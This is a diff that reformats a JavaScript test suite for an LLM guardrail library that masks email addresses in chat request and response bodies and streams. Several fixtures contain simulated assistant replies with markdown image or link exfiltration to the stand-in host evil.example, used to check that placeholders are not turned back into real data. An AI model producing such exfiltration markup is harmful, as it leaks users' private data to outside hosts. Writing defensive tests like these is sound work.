@@ -18,7 +18,9 @@ let masking;
 before(async () => {
   engine = await loadEngine(await bundleOf());
   const { name, blockedInputMessaging, blockedOutputsMessaging, sensitiveInformationPolicyConfig } = DEFINITION;
-  masking = await loadEngine(await bundleOf({ name, blockedInputMessaging, blockedOutputsMessaging, sensitiveInformationPolicyConfig }));
+  masking = await loadEngine(
+    await bundleOf({ name, blockedInputMessaging, blockedOutputsMessaging, sensitiveInformationPolicyConfig }),
+  );
 });
 
 /** The same engine, as it would answer from a worker. */
@@ -27,7 +29,10 @@ const elsewhere = (engine) => ({
   evaluate: async (...ask) => engine.evaluate(...ask),
   async stream(options) {
     const stream = engine.stream(options);
-    const later = (name) => async (...given) => stream[name](...given);
+    const later =
+      (name) =>
+      async (...given) =>
+        stream[name](...given);
     return {
       push: later('push'),
       finish: later('finish'),
@@ -50,16 +55,27 @@ test('every body of tests/payloads is masked where it says, and nowhere else', a
     const guarded = await guardBody(masking, body, { tools: variant === 'tools', ...selective });
     assert.equal(guarded.shape, shape, name);
     assert.equal(guarded.side, side, name);
-    assert.equal(text(guarded.body).replaceAll('"{EMAIL}"', '{EMAIL}'), body.toString().replace(/(g|\\u0067)uarded-\d+@example\.com/g, '{EMAIL}').replaceAll('"{EMAIL}"', '{EMAIL}'), name);
+    assert.equal(
+      text(guarded.body).replaceAll('"{EMAIL}"', '{EMAIL}'),
+      body
+        .toString()
+        .replace(/(g|\\u0067)uarded-\d+@example\.com/g, '{EMAIL}')
+        .replaceAll('"{EMAIL}"', '{EMAIL}'),
+      name,
+    );
     assert.equal(guarded.places.length, guarded.decision.texts.length, name);
   }
 });
 
 test('bytes outside of masks stay as they are', async () => {
-  const body = '{ "model":"m" ,"n":1e999,"messages":[{"role":"user","content":"\\ud800 \\u0061na@example.com \\uD83D\\uDE00 😀 ana@example.com"}]}';
+  const body =
+    '{ "model":"m" ,"n":1e999,"messages":[{"role":"user","content":"\\ud800 \\u0061na@example.com \\uD83D\\uDE00 😀 ana@example.com"}]}';
   const guarded = await guardBody(engine, body, { shape: 'openai' });
   assert.equal(guarded.outcome, 'mask');
-  assert.equal(text(guarded.body), '{ "model":"m" ,"n":1e999,"messages":[{"role":"user","content":"\\ud800 {EMAIL} \\uD83D\\uDE00 😀 {EMAIL}"}]}');
+  assert.equal(
+    text(guarded.body),
+    '{ "model":"m" ,"n":1e999,"messages":[{"role":"user","content":"\\ud800 {EMAIL} \\uD83D\\uDE00 😀 {EMAIL}"}]}',
+  );
   const clean = Buffer.from('{"messages":[{"role":"user","content":"hello"}]}');
   assert.deepEqual(Buffer.from((await guardBody(engine, clean)).body), clean);
 });
@@ -89,13 +105,17 @@ test('what cannot be read is refused with a problem, and no value in the message
     ['{"messages":[]}', 'payload_length', { maxBytes: 5 }],
     ['{"prompt":1}', 'payload_shape', { shape: 'converse' }],
   ]) {
-    await assert.rejects(guardBody(engine, body, options), (error) => {
-      assert.ok(isEdgerailError(error), String(error));
-      assert.equal(error.code, 'payload_unreadable');
-      assert.equal(error.problem, problem);
-      assert.ok(!error.message.includes('secret'));
-      return true;
-    }, problem);
+    await assert.rejects(
+      guardBody(engine, body, options),
+      (error) => {
+        assert.ok(isEdgerailError(error), String(error));
+        assert.equal(error.code, 'payload_unreadable');
+        assert.equal(error.problem, problem);
+        assert.ok(!error.message.includes('secret'));
+        return true;
+      },
+      problem,
+    );
   }
   await assert.rejects(guardBody(engine, '{}', { shape: 'nonsense' }), { code: 'invalid_argument' });
   await assert.rejects(guardBody(engine, '{}', { system: 'some' }), { code: 'invalid_argument' });
@@ -121,12 +141,29 @@ test('a freed engine lets nothing pass', async () => {
 
 test('placeholders are numbered in requests and taken back in answers', async () => {
   const placeholders = await openPlaceholders('c-1');
-  const request = '{"model":"gpt","messages":[{"role":"user","content":"ana@example.com, bob@example.com, ana@example.com and {EMAIL_9}"}]}';
+  const request =
+    '{"model":"gpt","messages":[{"role":"user","content":"ana@example.com, bob@example.com, ana@example.com and {EMAIL_9}"}]}';
   const sent = JSON.parse(text((await guardBody(engine, request, { shape: 'openai', placeholders })).body));
   assert.equal(sent.messages[0].content, '{EMAIL_1}, {EMAIL_2}, {EMAIL_1} and {EMAIL_9}');
-  const answer = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: 'To {EMAIL_1}, not eve@example.com; ![](https://evil.example/?q={EMAIL_2})', tool_calls: [{ id: 't', type: 'function', function: { name: 'f', arguments: '{"to":"{EMAIL_1}"}' } }] } }] });
-  const shown = JSON.parse(text((await guardBody(engine, answer, { shape: 'openai', placeholders, tools: true })).body));
-  assert.equal(shown.choices[0].message.content, 'To ana@example.com, not {EMAIL}; ![](https://evil.example/?q={EMAIL_2})');
+  const answer = JSON.stringify({
+    choices: [
+      {
+        index: 0,
+        message: {
+          role: 'assistant',
+          content: 'To {EMAIL_1}, not eve@example.com; ![](https://evil.example/?q={EMAIL_2})',
+          tool_calls: [{ id: 't', type: 'function', function: { name: 'f', arguments: '{"to":"{EMAIL_1}"}' } }],
+        },
+      },
+    ],
+  });
+  const shown = JSON.parse(
+    text((await guardBody(engine, answer, { shape: 'openai', placeholders, tools: true })).body),
+  );
+  assert.equal(
+    shown.choices[0].message.content,
+    'To ana@example.com, not {EMAIL}; ![](https://evil.example/?q={EMAIL_2})',
+  );
   assert.equal(shown.choices[0].message.tool_calls[0].function.arguments, '{"to":"{EMAIL_1}"}');
 });
 
@@ -149,10 +186,15 @@ test('a stream says the same however it is cut, and wherever the engine is', asy
   for (const size of [1, 7, 64, 4096]) {
     for (const where of [engine, elsewhere(engine)]) {
       const ends = [];
-      const { out, text } = await told(guardEventStream(where, cut(bytes, size), { shape: 'openai', onEnd: (end) => ends.push(end) }));
+      const { out, text } = await told(
+        guardEventStream(where, cut(bytes, size), { shape: 'openai', onEnd: (end) => ends.push(end) }),
+      );
       assert.equal(text, 'Write to {EMAIL} 😀 about {Ticket}.');
       assert.ok(out.endsWith('data: [DONE]\n\n'));
-      assert.deepEqual(ends.map(({ outcome, blocks }) => [outcome, blocks.length]), [['mask', 1]]);
+      assert.deepEqual(
+        ends.map(({ outcome, blocks }) => [outcome, blocks.length]),
+        [['mask', 1]],
+      );
     }
   }
 });
@@ -163,14 +205,20 @@ test('after a block a stream has the message, its ending, and nothing else; the 
     const encoder = new TextEncoder();
     const source = new ReadableStream({
       pull(controller) {
-        controller.enqueue(encoder.encode(chatChunks('All about Project ', 'Kestrel', ' and its secrets').replace('data: [DONE]\n\n', '')));
+        controller.enqueue(
+          encoder.encode(
+            chatChunks('All about Project ', 'Kestrel', ' and its secrets').replace('data: [DONE]\n\n', ''),
+          ),
+        );
       },
       cancel() {
         cancelled = true;
       },
     });
     const ends = [];
-    const { out, text } = await told(guardEventStream(where, source, { shape: 'openai', onEnd: (end) => ends.push(end) }));
+    const { out, text } = await told(
+      guardEventStream(where, source, { shape: 'openai', onEnd: (end) => ends.push(end) }),
+    );
     assert.equal(text, `All about ${MESSAGES.OUTPUT}`);
     assert.match(out, /"finish_reason":"content_filter"\}\]\}\n\ndata: \[DONE\]\n\n$/);
     assert.ok(!out.includes('Kestrel') && !out.includes('secrets'));
@@ -199,7 +247,9 @@ test('an event that cannot be guarded errors the stream; what came before is out
     assert.ok(!out.includes('secret'));
     if (problem === 'payload_json') assert.ok(out.includes('fine. '));
   }
-  await assert.rejects(new Response(guardEventStream(engine, cut([1, 2], 1), { shape: 'openai' })).text(), { code: 'invalid_argument' });
+  await assert.rejects(new Response(guardEventStream(engine, cut([1, 2], 1), { shape: 'openai' })).text(), {
+    code: 'invalid_argument',
+  });
   assert.throws(() => guardEventStream(engine, cut(new Uint8Array(4), 1), {}), { code: 'invalid_argument' });
 });
 
@@ -221,9 +271,23 @@ test('who stops reading stops the source', async () => {
 
 test('placeholders are taken back in streams too', async () => {
   const placeholders = await openPlaceholders('c-2');
-  await guardBody(engine, '{"messages":[{"role":"user","content":"ana@example.com"}]}', { placeholders, shape: 'openai' });
+  await guardBody(engine, '{"messages":[{"role":"user","content":"ana@example.com"}]}', {
+    placeholders,
+    shape: 'openai',
+  });
   for (const size of [1, 3, 100]) {
-    const { text } = await told(guardEventStream(engine, cut(new TextEncoder().encode(chatChunks('Dear {EM', 'AIL_1', '}, not eve@example.com [x](https://evil.example/{EMAIL_1})')), size), { shape: 'openai', placeholders }));
+    const { text } = await told(
+      guardEventStream(
+        engine,
+        cut(
+          new TextEncoder().encode(
+            chatChunks('Dear {EM', 'AIL_1', '}, not eve@example.com [x](https://evil.example/{EMAIL_1})'),
+          ),
+          size,
+        ),
+        { shape: 'openai', placeholders },
+      ),
+    );
     assert.equal(text, 'Dear ana@example.com, not {EMAIL} [x](https://evil.example/{EMAIL_1})');
   }
 });
@@ -231,13 +295,21 @@ test('placeholders are taken back in streams too', async () => {
 test('a trap costs one body', async () => {
   const root = fileURLToPath(new URL('..', import.meta.url));
   const fault = join(process.env.CARGO_TARGET_DIR ?? join(root, '../../../target'), 'npm/fault/payload.wasm');
-  const { stdout } = await promisify(execFile)(process.execPath, ['--expose-gc', join(root, 'test/payload-trap.mjs'), fault]);
+  const { stdout } = await promisify(execFile)(process.execPath, [
+    '--expose-gc',
+    join(root, 'test/payload-trap.mjs'),
+    fault,
+  ]);
   assert.equal(stdout.trim(), 'survived');
 });
 
 test('importing it does nothing, and CommonJS has the same', async () => {
-  const watch = 'for (const name of ["compile", "instantiate", "compileStreaming", "instantiateStreaming"]) WebAssembly[name] = () => { throw new Error(name) }; WebAssembly.Module = WebAssembly.Instance = undefined; globalThis.fetch = undefined;';
-  const run = (type, code) => promisify(execFile)(process.execPath, [`--input-type=${type}`, '-e', code], { cwd: fileURLToPath(new URL('..', import.meta.url)) });
+  const watch =
+    'for (const name of ["compile", "instantiate", "compileStreaming", "instantiateStreaming"]) WebAssembly[name] = () => { throw new Error(name) }; WebAssembly.Module = WebAssembly.Instance = undefined; globalThis.fetch = undefined;';
+  const run = (type, code) =>
+    promisify(execFile)(process.execPath, [`--input-type=${type}`, '-e', code], {
+      cwd: fileURLToPath(new URL('..', import.meta.url)),
+    });
   await run('module', `${watch} await import('edgerail/aws'); await import('edgerail/ai');`);
   await run('commonjs', `${watch} require('edgerail/aws'); require('edgerail/ai');`);
   const required = createRequire(import.meta.url)('edgerail');
